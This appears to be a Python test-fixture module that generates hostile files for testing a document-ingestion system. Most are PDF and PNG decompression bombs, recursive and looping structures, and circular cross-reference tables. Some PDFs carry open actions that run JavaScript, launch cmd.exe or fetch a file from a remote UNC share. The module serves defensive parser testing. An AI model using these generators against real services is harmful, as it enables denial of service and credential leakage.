"""Files that are made to do harm. Each is small and has one harmful property."""

import struct
import zlib

from tests.ingestion.reading.documents import make_spreadsheet

MEGABYTE, GIGABYTE = 1 << 20, 1 << 30
UPRIGHT = b"[0 0 612 792]"


def make_pdf_file(
    *objects: bytes, trailer: bytes = b"", prev: bytes = b"", start: int = -1
) -> bytes:
    """Return a file of objects, numbered from 1, and their table. The first is the catalogue."""
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size, start = len(objects) + 1, len(content) if start < 0 else start
    content += b"xref\n0 %d\n0000000000 65535 f \n%b" % (size, table)
    return content + b"trailer <</Root 1 0 R /Size %d %b %b>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer,
        prev and b"/Prev " + prev,
        start,
    )


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b /Length %d>>\nstream\n%b\nendstream" % (entries, len(content), content)


def compressed_stream(content: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(content, 1), entries + b" /Filter /FlateDecode")


HELVETICA = b"/H <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"
INNOCENT_TEXT = "An innocent line of text"
INNOCENT_CONTENT = stream(b"BT /H 12 Tf 90 90 Td (%b) Tj ET" % INNOCENT_TEXT.encode())


def one_page_pdf(
    contents: bytes,
    *more: bytes,
    resources: bytes = b"",
    fonts: bytes = HELVETICA,
    box: bytes = UPRIGHT,
    page: bytes = b"",
    catalogue: bytes = b"",
) -> bytes:
    """Return a document of one page. Its contents are object 4; `more` are numbered from 5."""
    return make_pdf_file(
        b"<</Type /Catalog /Pages 2 0 R %b>>" % catalogue,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R" % box
        + b"%b /Resources <</Font <<%b>> %b>>>>" % (page, fonts, resources),
        contents,
        *more,
    )


def zeros(size: int, head: bytes = b"") -> bytes:
    """Return the compressed form of `head` and `size` zeros, which has a thousandth of their size.

    The zeros are never in memory. Deflate restarts at each full flush, so that one megabyte is
    compressed once and repeated.
    """
    squeezer = zlib.compressobj(9)
    first = squeezer.compress(head) + squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(bytes(MEGABYTE)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    one, other = zlib.adler32(head) & 0xFFFF, zlib.adler32(head) >> 16
    check = (other + size * one) % 65521 << 16 | one  # zeros add `one` to the other, each
    end = zlib.compressobj(wbits=-15).flush()
    return first + block * (size // MEGABYTE) + end + struct.pack(">I", check)


def fields_of_fields(depth: int = 30, contents: bytes | None = None) -> bytes:
    """Return a form whose fields list their only child twice, so that 2^30 fields are drawn."""
    fields = [
        b"<</Kids [%d 0 R %d 0 R]>>" % (number + 1, number + 1) for number in range(6, 6 + depth)
    ]
    last = b"<</FT /Tx /T (last) /V (typed) /Type /Annot /Subtype /Widget /Rect [72 600 300 620]>>"
    return one_page_pdf(
        INNOCENT_CONTENT if contents is None else stream(contents),
        b"<</Fields [6 0 R] /NeedAppearances true>>",
        *fields,
        last,
        catalogue=b"/AcroForm 5 0 R",
        page=b"/Annots [%d 0 R]" % (6 + depth),
    )


def flate_bomb() -> bytes:
    return one_page_pdf(stream(zeros(GIGABYTE), b"/Filter /FlateDecode"))


def double_flate_bomb() -> bytes:
    twice = zlib.compress(zeros(10 * GIGABYTE), 9)
    return one_page_pdf(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


def object_stream_bomb() -> bytes:
    """Return a file whose catalogue and page are in an object stream of half a gigabyte."""
    bodies = (
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox %b>>" % UPRIGHT,
    )
    starts = [sum(len(body) + 1 for body in bodies[:at]) for at in range(len(bodies))]
    index = b" ".join(b"%d %d" % pair for pair in enumerate(starts, start=1)) + b" "
    packed = zeros(512 * MEGABYTE, index + b" ".join(bodies))
    entries = b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(index)
    content = b"%PDF-1.7\n4 0 obj\n" + stream(packed, entries) + b"\nendobj\n"
    rows = [(0, 0, 255), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, 9, 0), (1, len(content), 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    entries = b"/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R"
    place = len(content)
    content += b"5 0 obj\n" + stream(table, entries) + b"\nendobj\n"
    return content + b"startxref\n%d\n%%%%EOF\n" % place


def page_image(entries: bytes, content: bytes = b"\0") -> bytes:
    """Return a page that is one image."""
    image = stream(content, b"/Type /XObject /Subtype /Image " + entries)
    resources = b"/XObject <</I 5 0 R>>"
    return one_page_pdf(stream(b"612 0 0 792 0 0 cm /I Do"), image, resources=resources)


def picture_of_a_gigapixel() -> bytes:
    grey = b"/Width 32000 /Height 32000 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    return page_image(grey + b" /Filter /FlateDecode", zeros(1_000 * MEGABYTE))


def picture_of_ten_gigapixels() -> bytes:
    bilevel = b"/Width 100000 /Height 100000 /BitsPerComponent 1 /ColorSpace /DeviceGray"
    return page_image(bilevel + b" /Filter /FlateDecode", zeros(1_200 * MEGABYTE))


GREY = b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceGray"
LARGE = GREY + b" /Width 32000 /Height 32000 /Filter /FlateDecode"
SMALL = GREY + b" /Width 1 /Height 1"


def mask_of_a_gigapixel() -> bytes:
    image = stream(b"\0", SMALL + b" /SMask 6 0 R")
    return one_page_pdf(
        stream(b"612 0 0 792 0 0 cm /I Do"),
        image,
        stream(zeros(1_000 * MEGABYTE), LARGE),
        resources=b"/XObject <</I 5 0 R>>",
    )


def stamp_of_a_gigapixel() -> bytes:
    """Return a page with an annotation whose appearance is an image of a gigapixel."""
    note = b"<</Type /Annot /Subtype /Stamp /Rect %b /F 4 /AP <</N 6 0 R>>>>" % UPRIGHT
    appearance = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources <</XObject <</I 7 0 R>>>>"
    )
    return one_page_pdf(
        INNOCENT_CONTENT,
        note,
        stream(b"/I Do", appearance),
        stream(zeros(1_000 * MEGABYTE), LARGE),
        page=b"/Annots [5 0 R]",
    )


def pattern_of_a_gigapixel() -> bytes:
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 612 792]"
    tile += b" /XStep 612 /YStep 792 /Resources <</XObject <</I 6 0 R>>>>"
    return one_page_pdf(
        stream(b"/Pattern cs /P scn 0 0 612 792 re f"),
        stream(b"612 0 0 792 0 0 cm /I Do", tile),
        stream(zeros(1_000 * MEGABYTE), LARGE),
        resources=b"/Pattern <</P 5 0 R>>",
    )


def letter_of_a_gigapixel() -> bytes:
    font = (
        b"<</Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0]"
        b" /CharProcs <</a 6 0 R>> /Encoding <</Type /Encoding /Differences [97 /a]>>"
        b" /FirstChar 97 /LastChar 97 /Widths [1] /Resources <</XObject <</I 7 0 R>>>>>>"
    )
    return one_page_pdf(
        stream(b"BT /F 600 Tf (a) Tj ET"),
        font,
        stream(b"1 0 d0 /I Do"),
        stream(zeros(1_000 * MEGABYTE), LARGE),
        fonts=b"/F 5 0 R",
    )


def inline_picture_of_a_gigapixel() -> bytes:
    return one_page_pdf(
        stream(
            b"q 612 0 0 792 0 0 cm BI /W 32000 /H 32000 /BPC 8 /CS /G /F /Fl ID "
            + zeros(1_000 * MEGABYTE)
            + b" EI Q"
        )
    )


def jbig2_bomb() -> bytes:
    """Return an image of moderate size whose encoded data state a much larger one."""
    side = 60_000
    size = struct.pack(">IIIIBH", side, side, 0, 0, 0, 0)
    region = struct.pack(">IIIIBB", side, side, 0, 0, 0, 0) + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe"
    coded = struct.pack(">IBBBI", 0, 48, 0, 1, len(size)) + size
    coded += struct.pack(">IBBBI", 1, 38, 0, 1, len(region) + 64) + region + bytes(64)
    bilevel = b"/Width 600 /Height 800 /BitsPerComponent 1 /ColorSpace /DeviceGray"
    return page_image(bilevel + b" /Filter /JBIG2Decode", coded)


def page_of_200_inches() -> bytes:
    return one_page_pdf(INNOCENT_CONTENT, box=b"[0 0 14400 14400]")


def page_of_a_billion_points() -> bytes:
    return one_page_pdf(INNOCENT_CONTENT, box=b"[0 0 1000000000 1000000000]")


def billion_laughs() -> bytes:
    """Return a page with form XObjects of ten others each, nine levels deep."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</F %d 0 R>>>>"
    forms = [stream(b"/F Do " * 10, form % number) for number in range(6, 15)]
    last = stream(b"0 0 1 1 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return one_page_pdf(stream(b"/F Do"), *forms, last, resources=b"/XObject <</F 5 0 R>>")


def two_million_texts() -> bytes:
    return one_page_pdf(compressed_stream(b"BT /H 1 Tf " + b"(a) Tj " * 2_000_000 + b"ET"))


def path_of_millions() -> bytes:
    return one_page_pdf(compressed_stream(b"0 0 m " + b"612 792 l 0 9 l " * 1_250_000 + b"S"))


def tiling(step: float = 0.001) -> bytes:
    """Return a page that no renderer finishes."""
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1]"
    steps = b" /XStep %f /YStep %f /Resources <<>>" % (step, step)
    contents = stream(b"/Pattern cs /P scn 0 0 612 792 re f")
    return one_page_pdf(
        contents, stream(b"0 0 1 1 re f", tile + steps), resources=b"/Pattern <</P 5 0 R>>"
    )


def metadata_bomb() -> bytes:
    xmp = b"/Type /Metadata /Subtype /XML /Filter /FlateDecode"
    return one_page_pdf(
        INNOCENT_CONTENT, stream(zeros(GIGABYTE), xmp), catalogue=b"/Metadata 5 0 R"
    )


def page_tree_loop() -> bytes:
    tree = b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000>>"
    return make_pdf_file(b"<</Type /Catalog /Pages 2 0 R>>", tree)


def one_page_200_000_times() -> bytes:
    return make_pdf_file(
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [%b] /Count 200000>>" % (b"3 0 R " * 200_000),
        b"<</Type /Page /Parent 2 0 R /MediaBox %b>>" % UPRIGHT,
    )


def nested_objects(opening: bytes, closing: bytes, levels: int = 150_000) -> bytes:
    return one_page_pdf(INNOCENT_CONTENT, page=b"/X " + opening * levels + closing * levels)


def nested_arrays() -> bytes:
    return nested_objects(b"[", b"]")


def nested_dictionaries() -> bytes:
    return nested_objects(b"<</A", b" 1" + b">>")


def table_after_itself() -> bytes:
    whole = one_page_pdf(INNOCENT_CONTENT)
    return with_previous_table(whole.rindex(b"xref\n0"))


def with_previous_table(place: int) -> bytes:
    """Return a page whose cross-reference table refers to a previous one at this place."""
    return one_page_pdf(INNOCENT_CONTENT).replace(b"/Size 5", b"/Prev %d /Size 5" % place)


def tables_in_a_circle() -> bytes:
    first = one_page_pdf(INNOCENT_CONTENT)
    place = first.rindex(b"xref\n0", 0, first.rindex(b"startxref"))
    later = b"xref\n0 0\ntrailer <</Root 1 0 R /Size 5 /Prev %d>>\n" % place
    start = len(with_previous_table(0)) + 9  # nine more digits than /Prev 0 has
    first = first.replace(b"/Size 5", b"/Prev %010d /Size 5" % start)
    return first + later + b"startxref\n%d\n%%%%EOF\n" % start


def table_of_two_billion() -> bytes:
    return one_page_pdf(INNOCENT_CONTENT).replace(b"xref\n0 5\n", b"xref\n0 2147483648\n")


def opens_with(action: bytes) -> bytes:
    return one_page_pdf(INNOCENT_CONTENT, catalogue=b"/OpenAction <<%b>>" % action)


def script() -> bytes:
    return opens_with(b"/S /JavaScript /JS (app.alert\\(1\\))")


def launch() -> bytes:
    return opens_with(b"/S /Launch /F (cmd.exe)")


def remote_file() -> bytes:
    return opens_with(b"/S /GoToR /F (\\\\\\\\203.0.113.9\\\\share\\\\x.pdf) /D [0 /Fit]")


def contents_elsewhere() -> bytes:
    return one_page_pdf(stream(b"", b"/F (http://203.0.113.9/page)"))


def png_chunk(kind: bytes, content: bytes) -> bytes:
    body = kind + content
    return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))


def make_png(side: int) -> bytes:
    rows = zeros(-(-(side // 8 + 1) * side // MEGABYTE) * MEGABYTE)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    chunks = png_chunk(b"IHDR", header), png_chunk(b"IDAT", rows), png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def png_of_60_000_squared() -> bytes:
    return make_png(60_000)


def png_of_13_000_squared() -> bytes:
    """Return an image with more pixels than the limit, and fewer than Pillow itself refuses."""
    return make_png(13_000)


def spreadsheet() -> bytes:
    return make_spreadsheet()


def program() -> bytes:
    return b"MZ\x90\0" + bytes(500)


def web_page() -> bytes:
    return b"<!DOCTYPE html><html><body>Your session has ended</body></html>"


def nothing() -> bytes:
    return b""
